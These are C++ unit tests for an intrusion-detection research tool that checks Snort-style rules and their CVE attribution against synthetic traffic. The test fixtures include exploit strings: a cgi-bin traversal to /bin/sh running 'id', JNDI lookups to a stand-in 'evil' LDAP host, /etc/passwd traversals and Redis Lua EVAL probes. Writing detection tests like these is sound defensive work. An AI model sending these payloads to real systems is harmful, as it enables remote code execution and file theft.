  for (int i = 0; i < 10; ++i) {
    sessions.push_back(make_session(*util::parse_date("2021-03-05"),
                                    traffic::credential_stuffing_payload(rng)));
  }
  std::vector<Detection> detections;
  for (const auto& s : sessions) detections.push_back({&broad_rule_, &s});
  const RcaReport report = root_cause_analysis(detections);
  ASSERT_EQ(report.verdicts.size(), 1u);
  EXPECT_FALSE(report.verdicts[0].kept);
  EXPECT_EQ(report.dropped_cves(), 1u);
  EXPECT_TRUE(report.kept_detections.empty());
}

TEST_F(RcaTest, KeepsCveWithTargetedPrePublicationTraffic) {
  const auto pre = make_session(*util::parse_date("2021-10-01"),
                                "POST /cgi-bin/.%2e/%2e%2e/bin/sh HTTP/1.1\r\n\r\necho;id");
  const auto post = make_session(*util::parse_date("2021-11-01"),
                                 "POST /cgi-bin/.%2e/%2e%2e/bin/sh HTTP/1.1\r\n\r\necho;id");
  const RcaReport report =
      root_cause_analysis({{&exploit_rule_, &pre}, {&exploit_rule_, &post}});
  ASSERT_EQ(report.verdicts.size(), 1u);
  EXPECT_TRUE(report.verdicts[0].kept);
  EXPECT_EQ(report.verdicts[0].pre_publication, 1u);
  EXPECT_EQ(report.verdicts[0].reviewed_exploit, 1u);
  EXPECT_EQ(report.kept_detections.size(), 2u);
}

TEST_F(RcaTest, DropsCveWhosePrePublicationMatchesFailReview) {
  // A rule matching benign probes before it existed is unsound (§3.2).
  const auto benign = make_session(*util::parse_date("2021-09-01"),
                                   "GET /status HTTP/1.1\r\nHost: x\r\n\r\n");
  const RcaReport report = root_cause_analysis({{&exploit_rule_, &benign}});
  ASSERT_EQ(report.verdicts.size(), 1u);
  EXPECT_FALSE(report.verdicts[0].kept);
}

TEST_F(RcaTest, PostPublicationOnlyTrafficIsKeptWithoutReview) {
  const auto post = make_session(*util::parse_date("2021-12-01"),
                                 "GET /anything HTTP/1.1\r\nHost: x\r\n\r\n");
  const RcaReport report = root_cause_analysis({{&exploit_rule_, &post}});
  EXPECT_TRUE(report.verdicts[0].kept);
  EXPECT_EQ(report.verdicts[0].pre_publication, 0u);
}

TEST_F(RcaTest, InjectableClassifierOverridesHeuristic) {
  const auto pre = make_session(*util::parse_date("2021-09-01"), "opaque-bytes");
  const PayloadClassifier always_exploit = [](std::string_view) { return true; };
  const RcaReport kept = root_cause_analysis({{&exploit_rule_, &pre}}, always_exploit);
  EXPECT_TRUE(kept.verdicts[0].kept);
  const PayloadClassifier never_exploit = [](std::string_view) { return false; };
  const RcaReport dropped = root_cause_analysis({{&exploit_rule_, &pre}}, never_exploit);
  EXPECT_FALSE(dropped.verdicts[0].kept);
}

TEST_F(RcaTest, NullDetectionsIgnored) {
  const RcaReport report = root_cause_analysis({Detection{nullptr, nullptr}});
  EXPECT_TRUE(report.verdicts.empty());
}

}  // namespace
}  // namespace cvewb::ids
