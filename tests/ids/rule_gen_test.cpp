#include "ids/rule_gen.h"

#include <gtest/gtest.h>

#include <map>

#include "ids/matcher.h"
#include "ids/rule_parser.h"
#include "traffic/obfuscation.h"
#include "traffic/payload.h"

namespace cvewb::ids {
namespace {

net::TcpSession session_with(const std::string& payload, std::uint16_t port) {
  net::TcpSession s;
  s.open_time = util::TimePoint(1640000000);
  s.src = net::IPv4(198, 51, 100, 9);
  s.dst = net::IPv4(3, 208, 0, 1);
  s.src_port = 50000;
  s.dst_port = port;
  s.payload = payload;
  return s;
}

TEST(StudyRuleset, CoversEveryStudiedCvePlusVariantsAndDecoy) {
  const RuleSet ruleset = generate_study_ruleset();
  // 62 generic rules + 15 Log4Shell variants + 1 decoy.
  EXPECT_EQ(ruleset.size(), 78u);
  for (const auto& rec : data::appendix_e()) {
    EXPECT_FALSE(ruleset.rules_for_cve(rec.id).empty()) << rec.id;
  }
  ASSERT_NE(ruleset.find_sid(49999), nullptr);
  EXPECT_TRUE(ruleset.find_sid(49999)->broad);
}

TEST(StudyRuleset, PublicationTimesMatchAppendixOffsets) {
  const RuleSet ruleset = generate_study_ruleset();
  for (const auto& rec : data::appendix_e()) {
    if (rec.id == "CVE-2021-44228") continue;
    const auto coverage = ruleset.coverage_available(rec.id);
    if (rec.fix_deployed()) {
      ASSERT_TRUE(coverage.has_value()) << rec.id;
      EXPECT_EQ(*coverage, *rec.fix_deployed()) << rec.id;
    } else {
      EXPECT_FALSE(coverage.has_value()) << rec.id;
    }
  }
  // Log4Shell coverage = earliest variant group (A: P + 9h).
  const auto log4shell = ruleset.coverage_available("CVE-2021-44228");
  ASSERT_TRUE(log4shell.has_value());
  EXPECT_EQ(*log4shell, data::find_cve("CVE-2021-44228")->published + util::Duration::hours(9));
}

TEST(StudyRuleset, EveryExploitPayloadMatchesExactlyItsOwnCve) {
  // The load-bearing generator invariant: each CVE's payload trips its own
  // signature and no other CVE's.
  const RuleSet ruleset = generate_study_ruleset();
  const Matcher matcher(ruleset.rules());
  util::Rng rng(5);
  for (const auto& rec : data::appendix_e()) {
    if (rec.id == "CVE-2021-44228") continue;
    const ExploitSpec spec = spec_for(rec);
    const auto payload = traffic::render_exploit_payload(spec, rng);
    const auto matches = matcher.match_all(session_with(payload, rec.service_port));
    ASSERT_FALSE(matches.empty()) << rec.id << " payload unmatched";
    for (const auto* rule : matches) {
      EXPECT_EQ(rule->cve, rec.id) << "payload for " << rec.id << " cross-matched sid "
                                   << rule->sid;
    }
  }
}

TEST(StudyRuleset, PayloadsMatchOnNonStandardPortsViaRewrite) {
  // §3.1 port-insensitivity: spray traffic on odd ports is still detected.
  const RuleSet ruleset = generate_study_ruleset();
  const Matcher matcher(ruleset.rules());
  util::Rng rng(6);
  const auto* rec = data::find_cve("CVE-2022-26134");
  const auto payload = traffic::render_exploit_payload(spec_for(*rec), rng);
  EXPECT_FALSE(matcher.match_all(session_with(payload, 31337)).empty());

  MatcherOptions strict;
  strict.port_insensitive = false;
  const Matcher port_bound(ruleset.rules(), strict);
  EXPECT_TRUE(port_bound.match_all(session_with(payload, 31337)).empty());
  EXPECT_FALSE(port_bound.match_all(session_with(payload, rec->service_port)).empty());
}

TEST(Log4ShellVariants, EachPayloadMatchesExactlyItsSid) {
  const RuleSet ruleset = generate_study_ruleset();
  const Matcher matcher(ruleset.rules());
  util::Rng rng(7);
  for (const auto& variant : data::log4shell_variants()) {
    for (int trial = 0; trial < 5; ++trial) {
      const auto payload = traffic::log4shell_payload(variant, rng);
      const auto matches = matcher.match_all(session_with(payload, 8080));
      ASSERT_FALSE(matches.empty()) << "sid " << variant.sid << " payload unmatched";
      for (const auto* rule : matches) {
        EXPECT_EQ(rule->sid, variant.sid)
            << "variant " << variant.sid << " payload also matched sid " << rule->sid;
      }
    }
  }
}

TEST(Log4ShellVariants, AttributionSurvivesEarliestPublishedSelection) {
  const RuleSet ruleset = generate_study_ruleset();
  const Matcher matcher(ruleset.rules());
  util::Rng rng(8);
  for (const auto& variant : data::log4shell_variants()) {
    const auto payload = traffic::log4shell_payload(variant, rng);
    const Rule* best = matcher.earliest_published_match(session_with(payload, 80));
    ASSERT_NE(best, nullptr);
    EXPECT_EQ(best->sid, variant.sid);
  }
}

TEST(UntargetedOgnl, MatchesConfluenceSignatureOnly) {
  // Finding 19: the generic OGNL probe trips the Confluence rule even
  // though it was not aimed at Confluence.
  const RuleSet ruleset = generate_study_ruleset();
  const Matcher matcher(ruleset.rules());
  util::Rng rng(9);
  const auto payload = traffic::untargeted_ognl_payload(rng);
  const auto matches = matcher.match_all(session_with(payload, 8161));
  ASSERT_EQ(matches.size(), 1u);
  EXPECT_EQ(matches[0]->cve, "CVE-2022-26134");
}

TEST(Decoy, MatchesCredentialStuffingNotExploits) {
  const RuleSet ruleset = generate_study_ruleset();
  const Matcher matcher(ruleset.rules());
  util::Rng rng(10);
  const auto stuffing = traffic::credential_stuffing_payload(rng);
  const auto matches = matcher.match_all(session_with(stuffing, 443));
  ASSERT_EQ(matches.size(), 1u);
  EXPECT_EQ(matches[0]->cve, std::string(kDecoyCveId));
}

TEST(Background, MatchesNothing) {
  const RuleSet ruleset = generate_study_ruleset();
  const Matcher matcher(ruleset.rules());
  util::Rng rng(11);
  for (int i = 0; i < 200; ++i) {
    const auto payload = traffic::background_payload(rng);
    EXPECT_TRUE(matcher.match_all(session_with(payload, 80)).empty()) << payload;
  }
}

TEST(RuleSetOps, PortInsensitiveRewriteClearsConstraints) {
  const RuleSet ruleset = generate_study_ruleset();
  const RuleSet widened = ruleset.port_insensitive();
  ASSERT_EQ(widened.size(), ruleset.size());
  for (const auto& rule : widened.rules()) {
    EXPECT_TRUE(rule.dst_ports.any);
    EXPECT_TRUE(rule.src_ports.any);
  }
}

TEST(RuleSetOps, SerializeParsesBack) {
  const RuleSet ruleset = generate_study_ruleset();
  const auto reparsed = parse_rules(ruleset.serialize());
  EXPECT_EQ(reparsed.size(), ruleset.size());
}

TEST(RuleSetOps, WindowFilterDropsUnknownCves) {
  const RuleSet ruleset = generate_study_ruleset();
  std::map<std::string, util::TimePoint> published;
  for (const auto& rec : data::appendix_e()) published[rec.id] = rec.published;
  const RuleSet filtered =
      ruleset.filtered_to_cve_window(data::study_begin(), data::study_end(), published);
  // The decoy's bogus CVE has no publication entry, so it drops out.
  EXPECT_EQ(filtered.size(), ruleset.size() - 1);
  EXPECT_EQ(filtered.find_sid(49999), nullptr);
}

}  // namespace
}  // namespace cvewb::ids
