#include "ids/matcher.h"

#include <gtest/gtest.h>

#include "ids/rule_parser.h"
#include "net/http.h"

namespace cvewb::ids {
namespace {

net::TcpSession http_session(const std::string& payload, std::uint16_t dst_port = 80) {
  net::TcpSession s;
  s.open_time = util::TimePoint(1640000000);
  s.src = net::IPv4(198, 51, 100, 9);
  s.dst = net::IPv4(3, 208, 0, 1);
  s.src_port = 51000;
  s.dst_port = dst_port;
  s.payload = payload;
  return s;
}

std::string jndi_uri_request() {
  net::HttpRequest req;
  req.uri = "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil%2Fa%7D";
  req.add_header("Host", "x");
  return req.serialize();
}

TEST(Buffers, ExtractionSplitsHttpParts) {
  net::HttpRequest req;
  req.method = "POST";
  req.uri = "/a%2Fb";
  req.add_header("Host", "h");
  req.add_header("Cookie", "k=v");
  req.add_header("X-Probe", "p");
  req.body = "body-bytes";
  const auto session = http_session(req.serialize());
  const SessionBuffers buffers = extract_buffers(session);
  EXPECT_TRUE(buffers.is_http);
  EXPECT_EQ(buffers.method, "POST");
  EXPECT_EQ(buffers.uri_raw, "/a%2Fb");
  EXPECT_EQ(buffers.uri_decoded, "/a/b");
  EXPECT_EQ(buffers.cookie, "k=v");
  EXPECT_EQ(buffers.body, "body-bytes");
  EXPECT_NE(buffers.headers.find("X-Probe: p"), std::string::npos);
  EXPECT_EQ(buffers.headers.find("Cookie"), std::string::npos);  // cookie excluded
}

TEST(Buffers, NonHttpHasRawOnly) {
  const SessionBuffers buffers = extract_buffers(http_session("*3\r\n$4\r\nEVAL\r\n"));
  EXPECT_FALSE(buffers.is_http);
  EXPECT_EQ(buffers.raw, "*3\r\n$4\r\nEVAL\r\n");
}

TEST(Matcher, HttpUriDecodedMatch) {
  auto rules = parse_rules(
      R"(alert tcp any any -> any any (msg:"jndi uri"; content:"${jndi:"; http_uri; nocase; sid:1;))");
  const Matcher matcher(std::move(rules));
  EXPECT_EQ(matcher.match_all(http_session(jndi_uri_request())).size(), 1u);
  // Raw buffer rules do NOT see the decoded form.
  auto raw_rules = parse_rules(
      R"(alert tcp any any -> any any (msg:"jndi raw"; content:"${jndi:"; sid:2;))");
  const Matcher raw_matcher(std::move(raw_rules));
  EXPECT_TRUE(raw_matcher.match_all(http_session(jndi_uri_request())).empty());
}

TEST(Matcher, HttpBufferRuleNeverMatchesNonHttp) {
  auto rules = parse_rules(
      R"(alert tcp any any -> any any (msg:"u"; content:"EVAL"; http_uri; sid:1;))");
  const Matcher matcher(std::move(rules));
  EXPECT_TRUE(matcher.match_all(http_session("EVAL something")).empty());
}

TEST(Matcher, PortSensitivityToggle) {
  auto make_rules = [] {
    return parse_rules(
        R"(alert tcp any any -> any [8090] (msg:"p"; content:"probe"; sid:1;))");
  };
  MatcherOptions sensitive;
  sensitive.port_insensitive = false;
  const Matcher strict(make_rules(), sensitive);
  EXPECT_TRUE(strict.match_all(http_session("probe", 80)).empty());
  EXPECT_EQ(strict.match_all(http_session("probe", 8090)).size(), 1u);

  const Matcher loose(make_rules());  // §3.1 default: port-insensitive
  EXPECT_EQ(loose.match_all(http_session("probe", 80)).size(), 1u);
}

TEST(Matcher, SrcPortSensitivityIsDetectedFromTheRuleset) {
  // Drives the group-match-scatter eligibility check: grouping sessions on
  // (payload, dst_port) is only sound when no rule reads the source port.
  const Matcher dst_only(parse_rules(
      R"(alert tcp any any -> any [8090] (msg:"d"; content:"probe"; sid:1;))"));
  EXPECT_FALSE(dst_only.src_port_sensitive());
  const Matcher src_constrained(parse_rules(
      R"(alert tcp any [51000] -> any any (msg:"s"; content:"probe"; sid:2;))"));
  EXPECT_TRUE(src_constrained.src_port_sensitive());
}

TEST(MatchCorpus, WeightedPassEqualsTheExpandedCorpus) {
  // The weighted representative pass must report the same classification
  // totals and per-representative verdicts as physically repeating each
  // session `weight` times.
  auto rules = parse_rules(
      R"(alert tcp any any -> any any (msg:"p"; content:"probe"; sid:1;))");
  const Matcher matcher(std::move(rules));
  const std::string hit = "probe payload";
  const std::string miss = jndi_uri_request();
  const std::string empty;

  std::vector<SessionRef> unique = {SessionRef{hit, 51000, 80},
                                    SessionRef{miss, 51001, 80},
                                    SessionRef{empty, 51002, 80}};
  const std::vector<std::uint32_t> weights = {3, 2, 4};
  std::vector<SessionRef> expanded;
  for (std::size_t i = 0; i < unique.size(); ++i) {
    for (std::uint32_t w = 0; w < weights[i]; ++w) expanded.push_back(unique[i]);
  }

  SessionClassCounts weighted_counts;
  const CorpusMatch weighted = match_corpus(matcher, unique, nullptr, 4096, nullptr,
                                            nullptr, &weighted_counts, &weights);
  SessionClassCounts expanded_counts;
  const CorpusMatch full = match_corpus(matcher, expanded, nullptr, 4096, nullptr,
                                        nullptr, &expanded_counts);

  EXPECT_EQ(weighted_counts.empty_payloads, expanded_counts.empty_payloads);
  EXPECT_EQ(weighted_counts.non_http_payloads, expanded_counts.non_http_payloads);
  EXPECT_EQ(weighted_counts.truncated_http, expanded_counts.truncated_http);
  EXPECT_EQ(weighted.errors, full.errors);
  ASSERT_EQ(weighted.matches.size(), 3u);
  // Scattering the representatives' verdicts reproduces the expanded pass.
  std::size_t row = 0;
  for (std::size_t i = 0; i < unique.size(); ++i) {
    for (std::uint32_t w = 0; w < weights[i]; ++w) {
      EXPECT_EQ(full.matches[row], weighted.matches[i]) << "row " << row;
      ++row;
    }
  }
}

TEST(Matcher, NegatedContentVetoes) {
  auto rules = parse_rules(
      R"(alert tcp any any -> any any (msg:"n"; content:"attack"; content:!"simulation"; sid:1;))");
  const Matcher matcher(std::move(rules));
  EXPECT_EQ(matcher.match_all(http_session("attack payload")).size(), 1u);
  EXPECT_TRUE(matcher.match_all(http_session("attack simulation")).empty());
}

TEST(Matcher, OffsetDepthWindow) {
  auto rules = parse_rules(
      R"(alert tcp any any -> any any (msg:"o"; content:"BBBB"; offset:4; depth:4; sid:1;))");
  const Matcher matcher(std::move(rules));
  EXPECT_EQ(matcher.match_all(http_session("AAAABBBB")).size(), 1u);
  EXPECT_TRUE(matcher.match_all(http_session("BBBBAAAA")).empty());
  EXPECT_TRUE(matcher.match_all(http_session("AAAAABBBB")).empty());
}

TEST(Matcher, DistanceWithinRelativeMatch) {
  auto rules = parse_rules(
      R"(alert tcp any any -> any any (msg:"d"; content:"EVAL"; content:"luaopen"; )"
      R"(distance:0; within:16; sid:1;))");
  const Matcher matcher(std::move(rules));
  EXPECT_EQ(matcher.match_all(http_session("EVAL xx luaopen_os")).size(), 1u);
  EXPECT_TRUE(matcher.match_all(http_session("luaopen_os then EVAL")).empty());
  EXPECT_TRUE(
      matcher.match_all(http_session("EVAL" + std::string(40, '-') + "luaopen")).empty());
}

TEST(Matcher, EarliestPublishedMatchWins) {
  auto rules = parse_rules(
      "alert tcp any any -> any any (msg:\"late\"; content:\"token\"; "
      "metadata: published 2022-06-01; sid:10;)\n"
      "alert tcp any any -> any any (msg:\"early\"; content:\"token\"; "
      "metadata: published 2021-05-01; sid:11;)\n"
      "alert tcp any any -> any any (msg:\"undated\"; content:\"token\"; sid:12;)\n");
  const Matcher matcher(std::move(rules));
  const auto session = http_session("has token inside");
  EXPECT_EQ(matcher.match_all(session).size(), 3u);
  const Rule* best = matcher.earliest_published_match(session);
  ASSERT_NE(best, nullptr);
  EXPECT_EQ(best->sid, 11);
}

TEST(Matcher, NoMatchReturnsNull) {
  auto rules = parse_rules(
      R"(alert tcp any any -> any any (msg:"x"; content:"absent"; sid:1;))");
  const Matcher matcher(std::move(rules));
  EXPECT_EQ(matcher.earliest_published_match(http_session("nothing here")), nullptr);
}

TEST(Matcher, PcreConstrainsAfterContents) {
  auto rules = parse_rules(
      R"(alert tcp any any -> any any (msg:"p"; content:"/login"; http_uri; )"
      R"(pcre:"/user=(admin|root)\d*/P"; sid:1;))");
  const Matcher matcher(std::move(rules));
  net::HttpRequest req;
  req.method = "POST";
  req.uri = "/login";
  req.add_header("Host", "x");
  req.body = "user=admin123&pw=1";
  EXPECT_EQ(matcher.match_all(http_session(req.serialize())).size(), 1u);
  req.body = "user=guest&pw=1";
  EXPECT_TRUE(matcher.match_all(http_session(req.serialize())).empty());
}

TEST(Matcher, PcreOnlyRuleMatchesRawBuffer) {
  auto rules = parse_rules(
      R"(alert tcp any any -> any any (msg:"r"; pcre:"/EVAL.{0,40}luaopen_os/s"; sid:2;))");
  const Matcher matcher(std::move(rules));
  EXPECT_EQ(matcher.match_all(http_session("EVAL x\ny luaopen_os")).size(), 1u);
  EXPECT_TRUE(matcher.match_all(http_session("luaopen_os EVAL")).empty());
}

TEST(Matcher, HttpPcreNeverMatchesNonHttp) {
  auto rules = parse_rules(
      R"(alert tcp any any -> any any (msg:"u"; pcre:"/EVAL/U"; sid:3;))");
  const Matcher matcher(std::move(rules));
  EXPECT_TRUE(matcher.match_all(http_session("EVAL raw")).empty());
}

TEST(Matcher, PrefilterEquivalentToExhaustive) {
  // Property: with and without the Aho-Corasick prefilter, the match sets
  // are identical over a varied payload corpus.
  const std::string rule_text =
      "alert tcp any any -> any any (msg:\"a\"; content:\"${jndi:\"; http_uri; nocase; sid:1;)\n"
      "alert tcp any any -> any any (msg:\"b\"; content:\"${jndi:\"; http_header; nocase; "
      "sid:2;)\n"
      "alert tcp any any -> any any (msg:\"c\"; content:\"EVAL\"; content:\"luaopen\"; sid:3;)\n"
      "alert tcp any any -> any any (msg:\"d\"; content:\"/etc/passwd\"; http_uri; sid:4;)\n";
  MatcherOptions no_prefilter;
  no_prefilter.use_prefilter = false;
  const Matcher fast(parse_rules(rule_text));
  const Matcher slow(parse_rules(rule_text), no_prefilter);

  std::vector<std::string> corpus = {
      jndi_uri_request(),
      "GET / HTTP/1.1\r\nX-Api-Version: ${jndi:ldap://e/a}\r\n\r\n",
      "EVAL then luaopen_os",
      "GET /..%2f..%2fetc%2fpasswd HTTP/1.1\r\nHost: x\r\n\r\n",
      "GET /etc/passwd HTTP/1.1\r\nHost: x\r\n\r\n",
      "nothing interesting",
      "",
  };
  for (const auto& payload : corpus) {
    const auto a = fast.match_all(http_session(payload));
    const auto b = slow.match_all(http_session(payload));
    ASSERT_EQ(a.size(), b.size()) << payload;
    for (std::size_t i = 0; i < a.size(); ++i) EXPECT_EQ(a[i]->sid, b[i]->sid);
  }
}

}  // namespace
}  // namespace cvewb::ids
