#include "ids/rule_parser.h"

#include <gtest/gtest.h>

namespace cvewb::ids {
namespace {

TEST(RuleParser, FullRule) {
  const Rule rule = parse_rule(
      R"(alert tcp any any -> any [80,8090] (msg:"Confluence OGNL injection"; )"
      R"(content:"${(#"; http_uri; nocase; content:"io.IOUtils"; http_uri; )"
      R"(metadata: cve CVE-2022-26134, published 2022-06-20T14:00:00Z; sid:50042; rev:2;))");
  EXPECT_EQ(rule.msg, "Confluence OGNL injection");
  EXPECT_EQ(rule.sid, 50042);
  EXPECT_EQ(rule.rev, 2);
  EXPECT_EQ(rule.cve, "CVE-2022-26134");
  ASSERT_TRUE(rule.published.has_value());
  EXPECT_EQ(util::format_datetime(*rule.published), "2022-06-20T14:00:00Z");
  ASSERT_EQ(rule.contents.size(), 2u);
  EXPECT_EQ(rule.contents[0].pattern, "${(#");
  EXPECT_TRUE(rule.contents[0].nocase);
  EXPECT_EQ(rule.contents[0].buffer, Buffer::kHttpUri);
  EXPECT_FALSE(rule.contents[1].nocase);
  ASSERT_FALSE(rule.dst_ports.any);
  EXPECT_TRUE(rule.dst_ports.permits(8090));
  EXPECT_FALSE(rule.dst_ports.permits(443));
}

TEST(RuleParser, HexEscapes) {
  const Rule rule =
      parse_rule(R"(alert tcp any any -> any any (msg:"hex"; content:"a|3a 3B|b"; sid:1;))");
  EXPECT_EQ(rule.contents[0].pattern, "a:;b");
}

TEST(RuleParser, NegatedContentAndModifiers) {
  const Rule rule = parse_rule(
      R"(alert tcp any any -> any any (msg:"m"; content:"root"; offset:4; depth:16; )"
      R"(content:!"harmless"; http_client_body; sid:2;))");
  EXPECT_FALSE(rule.contents[0].negated);
  EXPECT_EQ(rule.contents[0].offset, 4);
  EXPECT_EQ(rule.contents[0].depth, 16);
  EXPECT_TRUE(rule.contents[1].negated);
  EXPECT_EQ(rule.contents[1].buffer, Buffer::kHttpClientBody);
}

TEST(RuleParser, DistanceWithin) {
  const Rule rule = parse_rule(
      R"(alert tcp any any -> any any (msg:"m"; content:"EVAL"; content:"luaopen"; )"
      R"(distance:0; within:200; sid:3;))");
  EXPECT_EQ(rule.contents[1].distance, 0);
  EXPECT_EQ(rule.contents[1].within, 200);
}

TEST(RuleParser, NegatedPortList) {
  const Rule rule =
      parse_rule(R"(alert tcp any any -> any ![22,23] (msg:"m"; content:"x"; sid:4;))");
  EXPECT_FALSE(rule.dst_ports.permits(22));
  EXPECT_TRUE(rule.dst_ports.permits(80));
}

TEST(RuleParser, BroadPolicyFlag) {
  const Rule rule = parse_rule(
      R"(alert tcp any any -> any any (msg:"m"; content:"/api"; http_uri; )"
      R"(metadata: policy broad; sid:5;))");
  EXPECT_TRUE(rule.broad);
}

TEST(RuleParser, EscapedQuoteInsideContent) {
  const Rule rule = parse_rule(
      R"(alert tcp any any -> any any (msg:"m"; content:"filename=\"shell.jsp\""; sid:6;))");
  EXPECT_EQ(rule.contents[0].pattern, "filename=\"shell.jsp\"");
}

struct BadRuleCase {
  const char* name;
  const char* text;
};

class BadRules : public ::testing::TestWithParam<BadRuleCase> {};

TEST_P(BadRules, Rejected) {
  EXPECT_THROW(parse_rule(GetParam().text), ParseError) << GetParam().name;
}

INSTANTIATE_TEST_SUITE_P(
    Malformed, BadRules,
    ::testing::Values(
        BadRuleCase{"no_parens", "alert tcp any any -> any any"},
        BadRuleCase{"bad_header", "alert tcp any -> any (msg:\"m\"; content:\"x\"; sid:1;)"},
        BadRuleCase{"bad_action", "pass tcp any any -> any any (content:\"x\"; sid:1;)"},
        BadRuleCase{"bad_proto", "alert udp any any -> any any (content:\"x\"; sid:1;)"},
        BadRuleCase{"no_sid", "alert tcp any any -> any any (content:\"x\";)"},
        BadRuleCase{"no_content", "alert tcp any any -> any any (msg:\"m\"; sid:1;)"},
        BadRuleCase{"empty_content", "alert tcp any any -> any any (content:\"\"; sid:1;)"},
        BadRuleCase{"unknown_option", "alert tcp any any -> any any (content:\"x\"; zap:1; sid:1;)"},
        BadRuleCase{"nocase_without_content", "alert tcp any any -> any any (nocase; sid:1;)"},
        BadRuleCase{"bad_port", "alert tcp any any -> any [99999] (content:\"x\"; sid:1;)"},
        BadRuleCase{"bad_hex", "alert tcp any any -> any any (content:\"|zz|\"; sid:1;)"},
        BadRuleCase{"unterminated_hex", "alert tcp any any -> any any (content:\"|3a\"; sid:1;)"},
        BadRuleCase{"bad_published",
                    "alert tcp any any -> any any (content:\"x\"; metadata: published "
                    "someday; sid:1;)"}),
    [](const auto& info) { return std::string("case_") + std::to_string(info.index); });

TEST(RuleParser, ParseRulesSkipsCommentsAndBlanks) {
  const auto rules = parse_rules(
      "# comment\n"
      "\n"
      "alert tcp any any -> any any (msg:\"a\"; content:\"x\"; sid:1;)\n"
      "alert tcp any any -> any 80 (msg:\"b\"; content:\"y\"; sid:2;)\n");
  ASSERT_EQ(rules.size(), 2u);
  EXPECT_EQ(rules[1].sid, 2);
}

TEST(RuleParser, ParseErrorCarriesLineNumber) {
  try {
    parse_rules("# ok\nalert tcp any any -> any any (sid:1;)\n");
    FAIL() << "expected ParseError";
  } catch (const ParseError& e) {
    EXPECT_EQ(e.line(), 2u);
  }
}

TEST(RuleSerializer, RoundTripsThroughParser) {
  const char* text =
      R"(alert tcp any any -> any [8090] (msg:"rt"; content:"${(#"; http_uri; nocase; )"
      R"(content:!"benign"; http_client_body; metadata: cve CVE-2022-26134, )"
      R"(published 2022-06-20T14:00:00Z; sid:7; rev:3;))";
  const Rule rule = parse_rule(text);
  const Rule reparsed = parse_rule(serialize_rule(rule));
  EXPECT_EQ(reparsed.msg, rule.msg);
  EXPECT_EQ(reparsed.sid, rule.sid);
  EXPECT_EQ(reparsed.rev, rule.rev);
  EXPECT_EQ(reparsed.cve, rule.cve);
  EXPECT_EQ(reparsed.published, rule.published);
  ASSERT_EQ(reparsed.contents.size(), rule.contents.size());
  for (std::size_t i = 0; i < rule.contents.size(); ++i) {
    EXPECT_EQ(reparsed.contents[i].pattern, rule.contents[i].pattern);
    EXPECT_EQ(reparsed.contents[i].buffer, rule.contents[i].buffer);
    EXPECT_EQ(reparsed.contents[i].negated, rule.contents[i].negated);
    EXPECT_EQ(reparsed.contents[i].nocase, rule.contents[i].nocase);
  }
  EXPECT_EQ(reparsed.dst_ports.ports, rule.dst_ports.ports);
}

TEST(RuleParser, FastPatternDesignation) {
  const Rule rule = parse_rule(
      R"(alert tcp any any -> any any (msg:"f"; content:"a-very-long-pattern-here"; )"
      R"(content:"short"; fast_pattern; sid:13;))");
  EXPECT_FALSE(rule.contents[0].fast_pattern);
  EXPECT_TRUE(rule.contents[1].fast_pattern);
  // Explicit designation overrides the longest-content heuristic.
  ASSERT_NE(rule.longest_positive_content(), nullptr);
  EXPECT_EQ(rule.longest_positive_content()->pattern, "short");
  // And it round-trips through serialization.
  const Rule reparsed = parse_rule(serialize_rule(rule));
  EXPECT_TRUE(reparsed.contents[1].fast_pattern);
}

TEST(RuleParser, PcreOption) {
  const Rule rule = parse_rule(
      R"(alert tcp any any -> any any (msg:"p"; content:"${"; http_uri; )"
      R"(pcre:"/\x24\{(jndi|lower:j)/Ui"; sid:9;))");
  ASSERT_TRUE(rule.pcre.has_value());
  EXPECT_EQ(rule.pcre->buffer, Buffer::kHttpUri);
  EXPECT_TRUE(rule.pcre->regex.search("/?x=${LOWER:j}ndi"));
  EXPECT_FALSE(rule.pcre->regex.search("/?plain"));
}

TEST(RuleParser, PcreOnlyRuleIsValid) {
  const Rule rule =
      parse_rule(R"(alert tcp any any -> any any (msg:"p"; pcre:"/eval\(.+\)/i"; sid:10;))");
  EXPECT_TRUE(rule.contents.empty());
  ASSERT_TRUE(rule.pcre.has_value());
  EXPECT_EQ(rule.longest_positive_content(), nullptr);
}

TEST(RuleParser, BadPcreRejected) {
  EXPECT_THROW(
      parse_rule(R"(alert tcp any any -> any any (msg:"p"; pcre:"/(bad/"; sid:11;))"),
      ParseError);
}

TEST(RuleSerializer, PcreRoundTrips) {
  const char* text =
      R"(alert tcp any any -> any any (msg:"p"; content:"x"; pcre:"/a(b|c)+d/i"; sid:12;))";
  const Rule rule = parse_rule(text);
  const Rule reparsed = parse_rule(serialize_rule(rule));
  ASSERT_TRUE(reparsed.pcre.has_value());
  EXPECT_EQ(reparsed.pcre->source, rule.pcre->source);
  EXPECT_TRUE(reparsed.pcre->regex.search("xxabcbdxx"));
}

TEST(Rule, LongestPositiveContent) {
  Rule rule;
  ContentMatch a;
  a.pattern = "short";
  ContentMatch b;
  b.pattern = "much-longer-pattern";
  b.negated = true;
  ContentMatch c;
  c.pattern = "medium-one";
  rule.contents = {a, b, c};
  ASSERT_NE(rule.longest_positive_content(), nullptr);
  EXPECT_EQ(rule.longest_positive_content()->pattern, "medium-one");
}

}  // namespace
}  // namespace cvewb::ids
