// Randomized truncation / corruption sweeps for the matcher and the regex
// engine: degraded payloads must never cause out-of-bounds reads (run
// these under -DCVEWB_SANITIZE=address,undefined), and matching must be
// monotone as payloads shrink -- a negation-free rule that matches a
// prefix of a payload must also match every longer prefix.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "ids/matcher.h"
#include "ids/pcre_lite.h"
#include "ids/rule_gen.h"
#include "ids/rule_parser.h"
#include "traffic/payload.h"
#include "util/rng.h"

namespace cvewb::ids {
namespace {

net::TcpSession make_session(std::string payload, std::uint16_t dst_port = 80) {
  net::TcpSession session;
  session.open_time = util::TimePoint(1'700'000'000);
  session.src = net::IPv4(198, 51, 100, 7);
  session.dst = net::IPv4(10, 0, 0, 1);
  session.src_port = 40000;
  session.dst_port = dst_port;
  session.payload = std::move(payload);
  return session;
}

/// Realistic exploit payloads for every studied CVE, plus synthetic junk.
std::vector<std::string> seed_payloads() {
  std::vector<std::string> payloads;
  util::Rng rng(7);
  for (const auto& rec : data::appendix_e()) {
    const ExploitSpec spec = spec_for(rec);
    payloads.push_back(traffic::render_exploit_payload(spec, rng));
  }
  payloads.push_back("GET / HTTP/1.1\r\nHost: a\r\n\r\n");
  payloads.push_back(std::string(512, '\0'));
  payloads.push_back("\xff\xfe garbage \x01\x02");
  return payloads;
}

